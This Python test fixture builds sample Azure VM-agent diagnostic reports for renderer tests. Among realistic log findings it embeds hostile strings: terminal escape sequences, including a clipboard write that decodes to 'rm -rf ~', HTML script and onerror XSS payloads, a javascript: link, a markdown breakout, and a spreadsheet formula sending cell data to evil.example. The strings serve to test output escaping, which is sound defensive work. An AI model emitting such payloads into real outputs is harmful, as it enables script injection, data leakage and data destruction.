"""Report objects for the renderer tests: realistic findings plus hostile bundle text."""

from __future__ import annotations

from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

from analyzer.report.model import (
    BundleSummary,
    Evidence,
    ExtensionSummary,
    FileSummary,
    Finding,
    ProblemSummary,
    Report,
    TimelineEvent,
    TimelinePoint,
)

ARTIFACTS = Path(__file__).resolve().parent / "artifacts"

# Attacker-controlled text as it can appear in log lines and member names (checklist 17, 37-40).
CSI_CLEAR = "\x1b[2J\x1b[H"
OSC_TITLE = "\x1b]0;pwned\x07"
OSC_52 = "\x1b]52;c;cm0gLXJmIH4=\x07"
OSC_8 = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
C1_CSI = "\x9b31m"
BARE_CR = "real-error\rOK"
RLO = "invoice\u202etxt.exe"
RICH_MARKUP = "[link=https://evil.example]x[/link] [bold red]FAKE[/]"
HTML_SCRIPT = "</td><script>window.__pwned=1;alert(1)</script>"
HTML_IMG = '"><img src=x onerror="window.__pwned=2;alert(2)">'
SURROGATE_NAME = "var/log/azure/caf\udce9.log"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
MD_BREAKOUT = "```\n# Injected heading\n[click](javascript:alert(1)) <b>bold</b> | col |\n```"

T0 = datetime(2025, 3, 10, 6, 0, 0)


def _ts(hours: float) -> datetime:
    return T0 + timedelta(hours=hours)


def _findings() -> list[Finding]:
    log = "case-4711.tgz!var/log/waagent.log"
    snap = (
        "case-4711.tgz!var/log/azure/Microsoft.Azure.RecoveryServices.VMSnapshotLinux/"
        "extension.log"
    )
    return [
        Finding(
            rule="WAA-NET-001",
            category="network",
            severity="high",
            title="WireServer 168.63.129.16 unreachable",
            message="WireServer unreachable: [Errno 113] No route to host (47 times)",
            count=47,
            first_seen=_ts(2.5),
            last_seen=_ts(30.2),
            evidence=[
                Evidence(log, 1204, _ts(2.5), "2025-03-10T08:30:00.112233Z WARNING ExtHandler "
                         "ExtHandler Fetch goal state failed: [HttpError] [HTTP Failed] GET "
                         "http://168.63.129.16/machine/ -- IOError [Errno 113] No route to host"),
                Evidence(
                    log, 1388, _ts(3.0), "attacker " + CSI_CLEAR + OSC_TITLE + OSC_52 + " done"
                ),
                Evidence(log, 1390, _ts(3.1), RICH_MARKUP + " " + OSC_8),
                Evidence(log, 1391, _ts(3.2), HTML_SCRIPT),
                Evidence(log, 1392, _ts(3.3), C1_CSI + " " + BARE_CR + " " + RLO),
                Evidence(log, 1393, _ts(3.4), HTML_IMG),
                Evidence(log, 1394, _ts(3.5), "2025-03-10T09:30:00.000001Z WARNING ExtHandler "
                         "ExtHandler Fetch goal state failed: [Errno 113] No route to host"),
            ],
            remediation="Allow outbound TCP 80 to 168.63.129.16 in the guest firewall and NSG.\n"
            "Check `iptables -L -n` for DROP rules on that address.",
            references=[
                "https://learn.microsoft.com/azure/virtual-network/what-is-ip-address-168-63-129-16",
                "javascript:alert(document.domain)",
            ],
            guide_cause=1,
        ),
        Finding(
            rule="WAA-SNAP-002",
            category="snapshot-timeout",
            severity="critical",
            title="Filesystem freeze timed out",
            message="fsfreeze did not complete within 60 s (code 122) on 3 runs",
            count=3,
            first_seen=_ts(20),
            last_seen=_ts(44),
            evidence=[
                Evidence(snap, 88, _ts(20), "2025-03-11 02:00:12 [ERROR] freeze result: "
                         "FreezeResult code 122 timeout for /data"),
                Evidence(snap, 301, _ts(44), MD_BREAKOUT),
            ],
            remediation="Stop I/O-heavy jobs during the backup window; see vmbackup.conf "
            "timeout settings.",
            references=["https://learn.microsoft.com/azure/backup/backup-azure-linux-app-consistent"],
            guide_cause=5,
        ),
        Finding(
            rule="WAA-EXT-001",
            category="extension-outdated",
            severity="medium",
            title="VMSnapshotLinux older than 1.0.91.0",
            message="VMSnapshotLinux 1.0.9100.0 is installed; 1.0.9220.0 or later is expected",
            count=1,
            first_seen=_ts(1),
            last_seen=_ts(1),
            evidence=[
                Evidence(SURROGATE_NAME, 5, None, FORMULA),
            ],
            remediation="Uninstall the VMSnapshot extension; the next backup reinstalls it.",
            references=[],
            guide_cause=4,
        ),
        Finding(
            rule="WAA-CONF-002",
            category="configuration",
            severity="info",
            title="Verbose logging disabled",
            message="Logs.Verbose=n in /etc/waagent.conf",
            count=1,
            first_seen=None,
            last_seen=None,
            evidence=[Evidence("case-4711.tgz!etc/waagent.conf", 31, None, "Logs.Verbose=n")],
            remediation="Set Logs.Verbose=y, restart waagent and reproduce the failure.",
            references=[],
            guide_cause=2,
            downranked="hint only",
        ),
        Finding(
            rule="WAA-GS-003",
            category="goal-state",
            severity="low",
            title="Repeated stale goal state",
            message="410 Gone on goal state 12 times",
            count=12,
            first_seen=_ts(10),
            last_seen=_ts(12),
            evidence=[],
            remediation="Usually transient; watch for recurrence.",
            references=[],
        ),
    ]


def _bundle() -> BundleSummary:
    return BundleSummary(
        source="case-4711.tgz",
        sha256="9f2c4e1a7b3d5c6e8f0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f6a",
        collected_at=_ts(48),
        time_start=_ts(0),
        time_end=_ts(47.5),
        daemon_versions=["2.2.53"],
        goal_state_agent_versions=["2.9.1.1", "2.10.0.8"],
        extensions=[
            ExtensionSummary("Microsoft.Azure.RecoveryServices.VMSnapshotLinux", "1.0.9100.0",
                             "enabled", "var/lib/waagent/ExtensionsConfig.12.xml"),
            ExtensionSummary("Microsoft.OSTCExtensions.VMAccessForLinux", "1.5.18", "enabled",
                             "var/lib/waagent/ExtensionsConfig.12.xml"),
        ],
        files=[
            FileSummary("case-4711.tgz!var/log/waagent.log", "waagent_log", 18_873_120),
            FileSummary("case-4711.tgz!var/lib/waagent/GoalState.12.xml", "goal_state_xml", 2048),
            FileSummary("case-4711.tgz!etc/waagent.conf", "waagent_conf", 4410),
            FileSummary(SURROGATE_NAME, "extension_log", 1200),
        ],
        problems=[
            ProblemSummary("case-4711.tgz!var/log/\x1b]0;pwned\x07.log",
                           "skipped: symbolic link"),
            ProblemSummary("case-4711.tgz!var/log/waagent.log.3.gz",
                           "truncated: decompressed size exceeds 256 MiB"),
        ],
    )


def _timeline() -> tuple[list[TimelinePoint], list[TimelineEvent]]:
    points = []
    for hour in range(48):
        points.append(TimelinePoint(_ts(hour), "INFO", 120 + (hour * 37) % 90))
        if 2 <= hour <= 30:
            points.append(TimelinePoint(_ts(hour), "WARNING", 10 + hour % 7))
        if hour in (3, 4, 20, 21, 44):
            points.append(TimelinePoint(_ts(hour), "ERROR", 25 + hour))
        points.append(TimelinePoint(_ts(hour), "VERBOSE", 15))
    events = [
        TimelineEvent(_ts(0.2), "agent-start", "WALinuxAgent 2.9.1.1 started"),
        TimelineEvent(_ts(4.1), "agent-crash", "ExtHandler did not terminate cleanly"),
        TimelineEvent(_ts(4.2), "agent-start", "WALinuxAgent 2.10.0.8 started"),
        *[TimelineEvent(_ts(h), "goal-state", f"incarnation {h // 3}") for h in range(0, 48, 3)],
        TimelineEvent(_ts(6), "extension-op", "VMSnapshotLinux Enable", 2.0, "success"),
        TimelineEvent(_ts(19.9), "extension-op", "VMSnapshotLinux Enable", 300.0, "error"),
        TimelineEvent(_ts(20), "snapshot-run", "scheduled backup " + HTML_SCRIPT, 3600.0,
                      "failed (122)"),
        TimelineEvent(_ts(32), "snapshot-run", "scheduled backup", 900.0, "success"),
        TimelineEvent(_ts(44), "snapshot-run", "scheduled backup", 4200.0, "timeout"),
    ]
    return points, events


def make_report(**overrides: Any) -> Report:
    points, events = _timeline()
    values: dict[str, Any] = {
        "tool_name": "waagent-analyzer",
        "tool_version": "0.1.0",
        "bundle": _bundle(),
        "findings": _findings(),
        "lang": "en",
        "rule_errors": ["rule WAA-RES-003 timed out on var/log/waagent.log:99"],
        "timeline_counts": points,
        "timeline_events": events,
        "agent_history": [
            (_ts(0.2), "daemon", "2.2.53"),
            (_ts(0.2), "goal-state agent", "2.9.1.1"),
            (_ts(4.2), "goal-state agent", "2.10.0.8"),
        ],
    }
    values.update(overrides)
    return Report(**values)
